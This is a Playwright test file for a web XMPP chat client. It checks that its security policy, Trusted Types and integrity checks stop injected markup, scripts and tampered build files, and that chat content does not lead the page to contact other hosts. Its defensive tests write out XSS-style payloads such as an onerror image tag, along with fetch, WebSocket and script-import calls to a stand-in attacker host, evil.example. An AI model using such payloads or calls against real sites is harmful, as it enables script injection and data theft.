// The page is held by a policy, loads only what was built, and speaks to nobody but its own origin and the XMPP server.
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "@playwright/test";
// @ts-expect-error plain JavaScript, shared with `make run`
import { ALWAYS, CACHE, serve } from "../scripts/serve.mjs";
import { App } from "./support/app";
import { complaints } from "./support/policy";
import { watched } from "./support/proxy";
import { expect, test } from "./support/test";

const site = process.env.SOTTO_SITE ?? new URL("../dist", import.meta.url).pathname;

test("the sample configurations send what development and tests run under", () => {
  for (const name of ["nginx.conf", "Caddyfile", "apache.conf"]) {
    const text = readFileSync(new URL(`../docs/deploy/${name}`, import.meta.url), "utf8");
    const sent = new Map([...text.matchAll(/^\s*(?:add_header|Header always set)?\s*([A-Z][A-Za-z-]+) "([^\n]*)"(?: always;)?$/gm)].map(([, header, value]) => [header.toLowerCase(), value]));
    for (const [header, value] of Object.entries(ALWAYS)) expect(sent.get(header), `${name}: ${header}`).toBe(value);
    for (const value of Object.values(CACHE)) expect(text, name).toContain(`"${value}"`);
  }
});

test("every response carries the headers, also of what is not there", async ({ request, site }) => {
  const build = readdirSync(join(process.env.SOTTO_SITE ?? new URL("../dist", import.meta.url).pathname, "b"))[0];
  for (const path of ["", "config.json", `b/${build}/worker.js`, "nothing"]) {
    const headers = (await request.get(site + path)).headers();
    for (const [header, value] of Object.entries(ALWAYS)) expect(headers[header], `${path} ${header}`).toBe(value);
  }
});

test.describe("what the policy is there for", () => {
  /** What became of an attempt that is made in the page itself, as a script that got in would. */
  const attempt = (page: Page, act: () => unknown) => page.evaluate(act).then(String, (error: Error) => error.message);

  test("text is no markup, no code and no script's address", async ({ site, browser }) => {
    const context = await browser.newContext();
    const refused = complaints(context);
    const app = await new App(await context.newPage(), site).open();
    await expect(app.address).toBeVisible();
    const { page } = app;
    const trusted = /Trusted(HTML|Script|ScriptURL)/;
    expect(await attempt(page, () => { document.body.innerHTML += "<img src=x onerror=hit=1>"; })).toMatch(trusted);
    expect(await attempt(page, () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"))).toMatch(trusted);
    expect(await attempt(page, () => new DOMParser().parseFromString("<b>x</b>", "text/html"))).toMatch(trusted);
    expect(await attempt(page, () => document.write("<b>x</b>"))).toMatch(trusted);
    expect(await attempt(page, () => { document.createElement("iframe").srcdoc = "<b>x</b>"; })).toMatch(trusted);
    expect(await attempt(page, () => { document.createElement("script").src = "b/other.js"; })).toMatch(trusted);
    expect(await attempt(page, () => { document.createElement("script").text = "hit=1"; })).toMatch(trusted);
    expect(await attempt(page, () => document.body.setAttribute("onclick", "hit=1"))).toMatch(trusted);
    expect(await attempt(page, () => document.createElement("object").setAttribute("data", "https://evil.example/"))).toMatch(trusted);
    expect(await attempt(page, () => { document.createElement("embed").src = "https://evil.example/"; })).toMatch(trusted);
    expect(await attempt(page, () => new Worker("other.js"))).toMatch(trusted);
    expect(await attempt(page, () => new Worker(URL.createObjectURL(new Blob(["hit=1"]))))).toMatch(trusted);
    expect(await attempt(page, () => navigator.serviceWorker.register("other.js"))).toMatch(trusted);
    expect(await attempt(page, () => (window as any).trustedTypes.createPolicy("mine", {}))).toMatch(/disallowed|policy/i);
    expect(await attempt(page, () => (window as any).trustedTypes.createPolicy("default", {}))).toMatch(/disallowed|already exists|policy/i);
    expect(await attempt(page, () => (window as any).trustedTypes.defaultPolicy.createHTML("<b>x</b>"))).toMatch(/createHTML/);
    expect(refused.length).toBeGreaterThan(5);
    await context.close();
  });

  test("nothing runs, loads or leads away that is not this page's own", async ({ site, browser }) => {
    const context = await browser.newContext();
    const refused = complaints(context);
    const elsewhere: string[] = [];
    // A foreign origin that would answer, so that nothing fails for another reason.
    await context.route(/^https?:\/\/evil\.example\//, (route) => { elsewhere.push(route.request().url()); return route.fulfill({ body: "" }); });
    const app = await new App(await context.newPage(), site).open();
    await expect(app.address).toBeVisible();
    const broken = await app.page.evaluate(async () => {
      const events: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) => events.push(event.effectiveDirective));
      const add = (name: string, attributes: Record<string, string>) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        document.head.append(element);
        return element;
      };
      add("link", { rel: "stylesheet", href: "https://evil.example/a.css" });
      document.body.append(add("img", { src: "https://evil.example/a.png" }));
      document.body.append(add("img", { src: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>" }));
      document.body.append(add("iframe", { src: "https://evil.example/" }));
      document.body.append(add("video", { src: "https://evil.example/a.webm" }));
      add("style", {}).textContent = "body { background: url(https://evil.example/b.png) }";
      document.body.setAttribute("style", "background: url(https://evil.example/c.png)");
      add("base", { href: "https://evil.example/" });
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
      await fetch("http://evil.example/").catch(() => {});
      try { new WebSocket("ws://evil.example/"); } catch { /* some browsers throw */ }
      await import(/* @vite-ignore */ "https://evil.example/a.js" as string).catch(() => {});
      const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
      // Each refusal comes in its own time; what is more than expected would, too.
      for (let n = 0; n < 100 && new Set(events).size < 9; n += 1) await wait(100);
      await wait(500);
      return { events: [...new Set(events)].sort(), base: document.baseURI, place: location.href };
    });
    expect(broken.events).toEqual(["base-uri", "connect-src", "form-action", "frame-src", "img-src", "media-src", "script-src-elem", "style-src-attr", "style-src-elem"]);
    expect(broken.base).toBe(site);
    expect(broken.place.startsWith(site)).toBe(true);
    expect(elsewhere).toEqual([]);
    expect(refused.length).toBeGreaterThan(9);
    await context.close();
  });

  test("no page can show it in a frame", async ({ site, browser }) => {
    const context = await browser.newContext();
    const refused = complaints(context);
    const page = await context.newPage();
    await page.route("**/framing", (route) => route.fulfill({ contentType: "text/html", body: `<!doctype html><iframe src="${site}"></iframe>` }));
    await page.goto(`${site}framing`);
    await expect.poll(() => refused.join()).toMatch(/frame-ancestors/);
    await context.close();
  });
});

/** The built site with a file below its build's directory changed, as a cache on the way might. */
async function changed(name: string, change: (text: Buffer) => Buffer | string, config: object) {
  const dir = mkdtempSync(join(tmpdir(), "sotto-site-"));
  cpSync(site, dir, { recursive: true, filter: (path) => !/\.(br|gz)$/.test(path) });
  const file = name.includes("/") ? join(dir, name.slice(1)) : join(dir, "b", readdirSync(join(dir, "b"))[0], name);
  const good = readFileSync(file);
  writeFileSync(file, change(good));
  const { url, close } = await serve(dir, { config });
  return { url, mend: () => writeFileSync(file, good), close: async () => { await close(); rmSync(dir, { recursive: true, force: true }); } };
}
const caches = (page: Page) => page.evaluate(async () => (await window.caches.keys()).length);

test.describe("a file that is not what was built", () => {
  for (const name of ["start.js", "words.js", "app.js", "browser.js"]) {
    test(`does not run: ${name}`, async ({ browser, prosody }) => {
      const { url, close } = await changed(name, (text) => `window.evil = true;\n${text}`, { websocket: prosody.websocket });
      const context = await browser.newContext();
      const refused = complaints(context);
      const page = await context.newPage();
      await page.goto(url);
      await expect.poll(() => refused.join()).toContain(name);
      expect(await page.evaluate(() => "evil" in window)).toBe(false);
      await expect(page.getByRole("button")).toHaveCount(0);
      await context.close();
      await close();
    });
  }

  test("is not kept for later, and the right one is, once it is there", async ({ browser, prosody }) => {
    const at = await changed("engine_bg.wasm", (bytes) => Buffer.concat([bytes, Buffer.from([0, 1, 0])]), { websocket: prosody.websocket });
    const context = await browser.newContext();
    const app = await new App(await context.newPage(), at.url).open();
    await expect(app.address).toBeVisible();
    const end = await app.page.evaluate(async () => {
      const registration = await navigator.serviceWorker.register(document.documentElement.dataset.sw!, { updateViaCache: "none" });
      const worker = registration.installing ?? registration.waiting ?? registration.active!;
      while (worker.state === "installing") await new Promise((resolve) => worker.addEventListener("statechange", resolve, { once: true }));
      return worker.state;
    });
    expect(end).toBe("redundant");
    await expect.poll(() => caches(app.page)).toBe(0);
    at.mend();
    await app.page.reload();
    await app.page.evaluate(async () => { await navigator.serviceWorker.ready; });
    expect(await caches(app.page)).toBe(1);
    await context.close();
    await at.close();
  });
});

test("a whole session asks only its own origin and the XMPP server", async ({ account, peer, browser, site, prosody }) => {
  const { context, asked, close } = await watched(browser);
  const refused = complaints(context);
  const [alice, bob] = [await account("alice"), await account("bob")];
  const other = await peer(bob);
  const app = await new App(await context.newPage(), site).signIn(alice);
  await app.page.evaluate(async () => { await navigator.serviceWorker.ready; });
  await app.startChat(bob.jid);
  const out = "see https://evil.example/picture.png and xmpp:x@evil.example";
  await app.send(out);
  await other.decrypted(out);
  const back = "https://evil.example/clip.mp4 ![x](https://evil.example/x.png) http://evil.example/";
  await other.send(alice, back, [`<x xmlns="jabber:x:oob"><url>https://evil.example/x.png</url></x>`]);
  await other.sendPlain(alice, "https://evil.example/plain.png", [`<x xmlns="jabber:x:oob"><url>https://evil.example/plain.png</url></x>`]);
  await app.message(back);
  await app.message("https://evil.example/plain.png");
  await (await app.message(back)).getByRole("link").first().hover();
  await other.vcard(`<vcard xmlns="urn:ietf:params:xml:ns:vcard-4.0"><url><uri>https://evil.example/me</uri></url><photo><uri>https://evil.example/me.png</uri></photo></vcard>`, true);
  await app.settings();
  await app.page.goto(`${site}#/open?uri=${encodeURIComponent("xmpp:carol@localhost?message;body=x")}`);
  await expect(app.page.getByRole("dialog")).toBeVisible();
  await app.page.reload();
  await app.online();
  await app.signOut();
  expect([...asked].sort()).toEqual([new URL(site).host, new URL(prosody.websocket).host].sort());
  // The proxy does see what leaves: a person who follows a link goes there.
  await app.page.evaluate(() => { location.href = "http://evil.example/"; });
  await expect.poll(() => [...asked]).toContain("evil.example:80");
  expect(refused).toEqual([]);
  await close();
});
